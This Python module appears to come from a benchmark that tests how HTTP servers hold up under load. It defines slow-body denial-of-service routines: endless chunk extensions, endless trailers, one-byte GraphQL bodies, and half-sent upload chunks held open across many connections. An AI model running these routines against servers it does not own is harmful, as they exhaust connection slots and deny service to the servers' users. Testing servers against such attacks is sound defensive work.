"""Request bodies that never end."""

import itertools

from bench.attacks.attacker import Attacker
from bench.attacks.peer import Peer

BLOCK = 16 * 1024
JSON = "Content-Type: application/json"
CHUNKED = "Transfer-Encoding: chunked"


async def chunk_extensions(attacker: Attacker) -> None:
    """A chunk of the transfer coding whose extensions never end (RFC 9112, section 7.1.1)."""
    start = attacker.head("POST", "/graphql", JSON, CHUNKED) + b"1;"
    await attacker.flood(start, b"a=b;" * (BLOCK // 4))


async def trailers(attacker: Attacker) -> None:
    """A trailer section that never ends (RFC 9112, section 7.1.2)."""
    start = attacker.head("POST", "/graphql", JSON, CHUNKED) + b"1\r\n{\r\n0\r\n"
    await attacker.flood(start, b"X-A: a\r\n" * (BLOCK // 8))


async def half_queries(attacker: Attacker) -> None:
    """GraphQL requests whose body stops after its first byte."""
    await attacker.crowd(attacker.head("POST", "/graphql", JSON, "Content-Length: 100") + b"{")


async def half_chunks(attacker: Attacker) -> None:
    """Chunks of an upload that stop after their first byte, each in a slot of its own."""
    paths = itertools.cycle(attacker.target.chunks)
    length = f"Content-Length: {attacker.target.chunk_size}"

    async def one(peer: Peer) -> None:
        await peer.send(attacker.head("PUT", next(paths), length) + b"x")
        await peer.closed()

    await attacker.repeat(one, attacker.target.connections, pause=1.0)
